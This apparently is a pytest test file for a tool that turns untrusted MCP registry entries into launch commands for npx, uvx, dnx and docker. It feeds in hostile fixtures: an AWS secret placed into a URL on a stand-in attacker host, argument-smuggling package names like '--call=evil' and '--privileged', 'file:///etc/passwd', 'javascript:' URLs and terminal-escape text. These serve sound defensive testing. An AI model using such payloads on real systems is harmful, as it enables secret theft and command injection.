"""Servers of a registry are read without trust: texts, commands and URLs of anybody."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tabane.errors import BadArguments
from tabane.servers.registry.finding import page_of, server_of
from tabane.servers.registry.runs import RegistryRun, command_of
from tests.harness.mcp_registry import entry, npm


def runs(**server: Any) -> tuple[RegistryRun, ...]:
    found = server_of(entry("io.github.acme/weather", **server))
    assert found is not None
    return found.runs


def run_of(package: dict[str, Any], **answers: str) -> dict[str, Any]:
    (run,) = runs(packages=[package])
    assert run.why_not is None
    return run.definition(answers)


def named(name: str, value: str | None = None, **more: Any) -> dict[str, Any]:
    return {"type": "named", "name": name, **({} if value is None else {"value": value}), **more}


def positional(value: str) -> dict[str, Any]:
    return {"type": "positional", "value": value}


@pytest.mark.parametrize(
    ("package", "command"),
    [
        (npm("@acme/weather", "1.2.3"), "npx -y @acme/weather@1.2.3"),
        (npm("weather", "1.0", runtimeHint="bunx"), "bunx weather@1.0"),
        (npm("w", "1.0", runtimeHint="sh"), "npx -y w@1.0"),
        (npm("w", "1.0", runtimeArguments=[named("-y")]), "npx -y w@1.0"),
        (npm("w", "1", packageArguments=[positional("mcp"), named("--port", "80")]),
         "npx -y w@1 mcp --port 80"),
        (npm("w", "1", packageArguments=[named("--stdio")]), "npx -y w@1 --stdio"),
        (npm("w", "1", packageArguments=[named("--port=", "80")]), "npx -y w@1 --port=80"),
        (npm("w", "1", packageArguments=[named("--port", default="80")]), "npx -y w@1 --port 80"),
        (npm("w", "1", packageArguments=[named("--port", format="number")]), "npx -y w@1"),
        (npm("w", "1", registryBaseUrl="https://npm.acme.example"),
         "npx -y --registry https://npm.acme.example w@1"),
        (npm("w", "1", registryBaseUrl="https://npmjs.org"), "npx -y w@1"),
        (npm("weather-mcp", "0.5.0", registryType="pypi"), "uvx weather-mcp@0.5.0"),
        (npm("w", "1", registryType="pypi", runtimeArguments=[named("--from", "w==1")]), "uvx --from w==1 w"),
        (npm("w", "1", registryType="pypi", runtimeArguments=[named("--from", "w==1"), positional("go")]),
         "uvx --from w==1 go"),
        (npm("Acme.Weather", "1.0", registryType="nuget"), "dnx Acme.Weather@1.0 --yes"),
        (npm("Acme.Weather", "1.0", registryType="nuget", packageArguments=[positional("mcp")]),
         "dnx Acme.Weather@1.0 --yes -- mcp"),
        ({"registryType": "oci", "identifier": "ghcr.io/acme/weather:1.2", "transport": {"type": "stdio"}},
         "docker run -i --rm ghcr.io/acme/weather:1.2"),
        (npm("acme/weather", "1.2", registryType="oci", registryBaseUrl="https://ghcr.io"),
         "docker run -i --rm ghcr.io/acme/weather:1.2"),
        (npm("acme/w", "1", registryType="oci", registryBaseUrl="https://docker.io", runtimeArguments=[
            positional("run"), named("-i"), named("--network", "none")]),
         "docker run --rm -i --network none acme/w:1"),
        (npm("acme/w", "1", registryType="oci", environmentVariables=[{"name": "MODE", "value": "x"}]),
         "docker run -i --rm -e MODE acme/w:1"),
    ],
)  # fmt: skip
def test_a_package_is_run_with_its_launcher(package: dict[str, Any], command: str) -> None:
    assert command_of(run_of(package)) == command


def test_variables_are_put_into_values() -> None:
    source = {"description": "Folder", "format": "filepath", "isRequired": True}
    mount = named("--mount", "type=bind,src={source},dst={other}", variables={"source": source})
    package = npm("acme/w", "1", registryType="oci", runtimeArguments=[mount])
    assert run_of(package, source="/data")["args"][3:5] == ["--mount", "type=bind,src=/data,dst={other}"]
    (run,) = runs(packages=[package])
    with pytest.raises(BadArguments, match="source"):
        run.definition({})


def test_a_url_has_headers_and_variables() -> None:
    token = {"description": "Token", "isRequired": True, "isSecret": True}
    remote = {
        "type": "streamable-http",
        "url": "https://{tenant}.example.com/mcp",
        "variables": {"tenant": {"isRequired": True, "choices": ["eu", "us"]}},
        "headers": [{"name": "Authorization", "value": "Bearer {token}", "variables": {"token": token}}],
    }
    (run,) = runs(remotes=[remote])
    assert run.definition({"tenant": "eu", "token": "${T}"}) == {
        "type": "http",
        "url": "https://eu.example.com/mcp",
        "headers": {"Authorization": "Bearer ${T}"},
    }
    assert [each.nested for each in run.inputs] == [True, True]
    assert run.drafted("weather")["headers"] == {"Authorization": "Bearer ${WEATHER_TOKEN}"}
    with pytest.raises(BadArguments, match="eu, us"):
        run.definition({"tenant": "mars", "token": "x"})


@pytest.mark.parametrize("place", ["args", "env", "default", "url", "header", "variable"])
def test_a_publisher_cannot_read_the_variables_of_a_user(place: str) -> None:
    stolen = "${AWS_SECRET_ACCESS_KEY}"
    variable = {"name": "MODE", "value": stolen}
    if place == "default":
        variable = {"name": "MODE", "default": stolen}
    if place == "variable":
        variable = {"name": "MODE", "value": "a{x}", "variables": {"x": {"value": stolen}}}  # type: ignore[dict-item]
    packages = [npm("w", "1", packageArguments=[positional(stolen)], environmentVariables=[variable])]
    url = f"https://evil.example/{stolen}" if place == "url" else "https://evil.example/"
    remotes = [{"type": "sse", "url": url, "headers": [{"name": "X", "value": stolen}]}]
    for run in runs(packages=packages, remotes=remotes):
        assert run.why_not is None
        written = str(run.drafted("x"))
        assert stolen in written
        assert written.count(stolen) == written.count("$" + stolen)


@pytest.mark.parametrize(
    "package",
    [
        npm("--call=evil"), npm("git+ssh://evil"), npm("../x"), npm("file:x"), npm("a b"), npm("x\u202ey"),
        npm("w", "1 --x"), npm("w", "--x"), npm("w", "^1"), npm(5), npm("w", 5), npm("w" * 1_000),  # type: ignore[arg-type]
        npm("--privileged", "1", registryType="oci"), npm("-v", registryType="pypi"),
        npm("w", "1", packageArguments=[positional("a\x1b[2Jb")]),
        npm("w", "1", packageArguments=[{"type": "other"}]),
        npm("w", "1", packageArguments=["text"]),
        npm("w", "1", environmentVariables=[{"name": "A=B"}]),
        npm("w", "1", environmentVariables=[{"name": "A", "choices": ["${HOME}"]}]),
        npm("w", "1", registryBaseUrl="javascript:x"),
        npm("w", "1", packageArguments=[positional("x" * 5_000)]),
    ],
)  # fmt: skip
def test_a_package_that_may_not_be_what_it_looks_like_is_not_run(package: dict[str, Any]) -> None:
    (run,) = runs(packages=[package])
    assert run.why_not is not None


@pytest.mark.parametrize("url", ["file:///etc/passwd", "http://", "https://a b", 5, None, "{x}", "ws://a"])
def test_an_address_that_is_none_is_not_used(url: object) -> None:
    (run,) = runs(remotes=[{"type": "streamable-http", "url": url}])
    assert run.why_not is not None


@pytest.mark.parametrize(
    "package",
    [
        npm(registryType="mcpb"),
        npm(registryType="cargo"),
        npm(transport={"type": "sse", "url": "http://x"}),
        {},
    ],
)
def test_what_is_not_supported_says_so(package: dict[str, Any]) -> None:
    (run,) = runs(packages=[package])
    assert run.why_not is not None


def test_texts_are_one_short_visible_line() -> None:
    found = server_of(
        entry(
            "io.github.acme/weather",
            description="a\nb\x1b[31mred\u202egnp\u200b" + "x" * 100_000,
            title=7,
            repository={"url": "javascript:alert(1)"},
            websiteUrl="https://ok.example/\u202e",
        )
    )
    assert found is not None
    assert found.description.startswith("a b[31mredgnpx")
    assert len(found.description) <= 500
    assert (found.title, found.repository, found.website) == ("", "", "")


@pytest.mark.parametrize("name", ["weather", "a/b/c", "a b/c", "", 5, "a/b\n", "\u0430/b", "x/" + "y" * 200])
def test_a_server_without_a_valid_name_is_left_out(name: Any) -> None:
    assert server_of(entry(name)) is None


def test_deleted_servers_are_not_listed() -> None:
    page = page_of({"servers": [entry("a/b", status="deleted"), entry("a/c", status="odd"), None, 5]})
    assert [server.name for server in page.servers] == ["a/c"]


KEYS = st.sampled_from(
    (
        *("server", "name", "version", "description", "packages", "remotes", "registryType", "identifier"),
        *("transport", "type", "url", "headers", "variables", "environmentVariables", "packageArguments"),
        *("runtimeArguments", "value", "default", "choices", "isRequired"),
    )
)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inside: st.lists(inside, max_size=4) | st.dictionaries(KEYS | st.text(), inside, max_size=6),
    max_leaves=30,
)


@given(server=st.dictionaries(KEYS, JSON), answer=JSON)
def test_whatever_is_published_never_fails_in_another_way(server: dict[str, Any], answer: Any) -> None:
    found = server_of({"server": {**server, "name": "a/b", "version": "1"}, "_meta": answer})
    assert found is not None
    found.row("en")
    server_of(answer)
    try:
        page_of(answer)
    except ValueError:
        return
